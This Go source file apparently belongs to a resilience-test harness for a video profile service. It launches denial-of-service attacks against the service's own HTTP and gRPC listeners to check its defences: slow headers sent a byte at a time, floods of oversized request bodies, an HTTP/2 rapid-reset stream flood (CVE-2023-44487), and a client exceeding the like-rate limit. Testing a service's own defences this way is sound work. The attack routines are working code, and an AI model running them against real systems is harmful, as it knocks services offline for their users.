package main

import (
	"bufio"
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"runtime"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
	"google.golang.org/grpc"
	"google.golang.org/grpc/codes"
	"google.golang.org/grpc/credentials/insecure"
	"google.golang.org/grpc/status"

	profilev1 "github.com/lingo-services/profile/api/profile/v1"
)

// What abusers do (trust.md T13).
const (
	slowConnections  = 500
	oversizedBodies  = 1000
	oversizedBytes   = 4 << 20
	resetConnections = 4
	// sendBuffer is small, so that what the service leaves unread stays with the abuser instead of keeping the kernel busy.
	sendBuffer = 64 << 10
	// limitOfLikes is the shipped limit per second; the greedy user asks for ten times as many.
	limitOfLikes = 10
)

// attack is what an abuser is asked to do. It travels as JSON on its standard input.
type attack struct {
	Kind   attackKind `json:"kind"`
	GRPC   string     `json:"grpc"`
	HTTP   string     `json:"http"`
	Videos int        `json:"videos"`
}

type attackKind string

const (
	slowHeaders attackKind = "slow"
	longBodies  attackKind = "oversized"
	rapidReset  attackKind = "reset"
	greedyUser  attackKind = "greedy"
	// noAttack keeps the processors busy and leaves the service alone: what healthy callers notice of that is the machine's
	// doing, and no attack can look better.
	noAttack attackKind = "none"
)

// runAttack has an abuser at work until ctx ends, and returns what it says of itself. It is a process of its own that
// runs when nobody else wants to (SCHED_IDLE): abusers have machines of their own, and here their work, such as copying
// gigabytes of bodies, would otherwise take the processors from those whose patience is measured.
func runAttack(ctx context.Context, a attack, log string) (told string, err error) {
	self, err := os.Executable()
	if err != nil {
		return "", err
	}
	input, err := json.Marshal(a)
	if err != nil {
		return "", err
	}
	var out bytes.Buffer
	p, err := program{
		name: "abuser", log: log, env: minimalEnv(), argv: []string{"chrt", "--idle", "0", self, asAttack}, stdin: bytes.NewReader(input), stdout: &out,
	}.start(ctx)
	if err != nil {
		return "", err
	}
	select {
	case <-p.done:
	case <-ctx.Done():
		p.stop(stopTimeout)
	}
	if code := p.cmd.ProcessState.ExitCode(); code != 0 {
		return "", fmt.Errorf("abuser: exit code %d: %s", code, p.tail())
	}
	return out.String(), nil
}

// abuser is the process of runAttack.
func abuser(ctx context.Context, in io.Reader, out io.Writer) error {
	var a attack
	if err := json.NewDecoder(in).Decode(&a); err != nil {
		return fmt.Errorf("read the attack: %w", err)
	}
	run, known := map[attackKind]func(context.Context) (string, error){
		slowHeaders: a.slow, longBodies: a.oversized, rapidReset: a.rapidReset, greedyUser: a.greedy, noAttack: burn,
	}[a.Kind]
	if !known {
		return fmt.Errorf("unknown attack %q", a.Kind)
	}
	told, err := run(ctx)
	if err != nil {
		return err
	}
	_, err = io.WriteString(out, told)
	return err
}

// burn calls nobody.
func burn(ctx context.Context) (string, error) {
	var group sync.WaitGroup
	for range runtime.GOMAXPROCS(0) {
		group.Go(func() {
			for ctx.Err() == nil {
			}
		})
	}
	group.Wait()
	return "Nobody attacked: a process of the same kind kept all processors busy.", nil
}

// dial connects with a small send buffer.
func dial(ctx context.Context, network, address string) (net.Conn, error) {
	conn, err := (&net.Dialer{}).DialContext(ctx, network, address)
	if tcp, isTCP := conn.(*net.TCPConn); isTCP {
		err = tcp.SetWriteBuffer(sendBuffer)
	}
	return conn, err
}

// slow sends the headers of requests a byte at a time, and opens anew what is closed.
func (a attack) slow(ctx context.Context) (string, error) {
	var opened atomic.Int64
	var group sync.WaitGroup
	for range slowConnections {
		group.Go(func() {
			for waited(ctx, 10*time.Millisecond) {
				conn, err := (&net.Dialer{}).DialContext(ctx, "tcp", a.HTTP)
				if err != nil {
					continue
				}
				opened.Add(1)
				_, err = io.WriteString(conn, "GET /api/v1/user/me HTTP/1.1\r\nHost: slow\r\nX-Slow: ")
				for err == nil && waited(ctx, time.Second) {
					_, err = conn.Write([]byte("a"))
				}
				_ = conn.Close()
			}
		})
	}
	group.Wait()
	return fmt.Sprintf("Slow: %d connections kept open, %d opened in all.", slowConnections, opened.Load()), nil
}

// oversized sends bodies that are too long, as fast as they are refused.
func (a attack) oversized(ctx context.Context) (string, error) {
	var sent, refused atomic.Int64
	body := bytes.Repeat([]byte("a"), oversizedBytes)
	client := http.Client{Transport: &http.Transport{DialContext: dial}}
	defer client.CloseIdleConnections()
	var group sync.WaitGroup
	for range 16 {
		group.Go(func() {
			for ctx.Err() == nil && sent.Add(1) <= oversizedBodies {
				req, err := http.NewRequestWithContext(ctx, http.MethodPatch, "http://"+a.HTTP+"/api/v1/user/me", bytes.NewReader(body))
				if err != nil {
					continue
				}
				req.Header.Set("Content-Type", "application/json")
				res, err := client.Do(req)
				if err != nil {
					continue // the server closes before it has read everything
				}
				if res.StatusCode == http.StatusRequestEntityTooLarge {
					refused.Add(1)
				}
				_ = res.Body.Close()
			}
		})
	}
	group.Wait()
	return fmt.Sprintf("Oversized: %d sent, %d of them answered 413, the others' connections closed.", min(sent.Load(), oversizedBodies), refused.Load()), nil
}

// rapidReset opens streams on the gRPC listener and resets them at once (CVE-2023-44487).
func (a attack) rapidReset(ctx context.Context) (string, error) {
	var resets, connections atomic.Int64
	var group sync.WaitGroup
	for range resetConnections {
		group.Go(func() {
			for ctx.Err() == nil {
				connections.Add(1)
				_ = a.resetStreams(ctx, &resets)
				waited(ctx, 10*time.Millisecond)
			}
		})
	}
	group.Wait()
	return fmt.Sprintf("Rapid reset: %d streams over %d connections.", resets.Load(), connections.Load()), nil
}

func (a attack) resetStreams(ctx context.Context, resets *atomic.Int64) error {
	conn, err := dial(ctx, "tcp", a.GRPC)
	if err != nil {
		return err
	}
	defer func() { _ = conn.Close() }()
	go func() { _, _ = io.Copy(io.Discard, conn) }() // ends with the connection
	if _, err = io.WriteString(conn, http2.ClientPreface); err != nil {
		return err
	}
	out := bufio.NewWriterSize(conn, sendBuffer) // a system call for thousands of streams
	framer := http2.NewFramer(out, nil)
	if err = framer.WriteSettings(); err != nil {
		return err
	}
	var block bytes.Buffer
	encoder := hpack.NewEncoder(&block)
	for id := uint32(1); ctx.Err() == nil && id < 1<<30; id += 2 {
		block.Reset()
		for _, field := range [][2]string{
			{":method", "POST"},
			{":scheme", "http"},
			{":path", profilev1.ProfileService_GetProfile_FullMethodName},
			{":authority", "abuse"},
			{"content-type", "application/grpc"},
			{"te", "trailers"},
		} {
			if err = encoder.WriteField(hpack.HeaderField{Name: field[0], Value: field[1]}); err != nil {
				return err
			}
		}
		err = framer.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block.Bytes(), EndHeaders: true})
		if err == nil {
			err = framer.WriteRSTStream(id, http2.ErrCodeCancel)
		}
		if err != nil {
			return err
		}
		resets.Add(1)
	}
	return nil
}

// greedy is one user who likes at ten times the limit.
func (a attack) greedy(ctx context.Context) (told string, err error) {
	conn, err := grpc.NewClient(a.GRPC, grpc.WithTransportCredentials(insecure.NewCredentials()))
	if err != nil {
		return "", err
	}
	defer func() { err = errors.Join(err, conn.Close()) }()
	client, user := profilev1.NewProfileServiceClient(conn), userID(1).String()
	const times = 10
	var done, refused int
	for waited(ctx, time.Second/(times*limitOfLikes)) {
		_, err := client.MutateFavorite(as(ctx, user), &profilev1.MutateFavoriteRequest{
			VideoId: videoID(1 + done%a.Videos).String(), FavoriteType: profilev1.FavoriteType_FAVORITE_TYPE_LIKE,
			Action: profilev1.FavoriteAction_FAVORITE_ACTION_ADD,
		})
		done++
		if status.Code(err) == codes.ResourceExhausted {
			refused++
		}
	}
	return fmt.Sprintf("Greedy: %d likes of one user, %d refused.", done, refused), nil
}
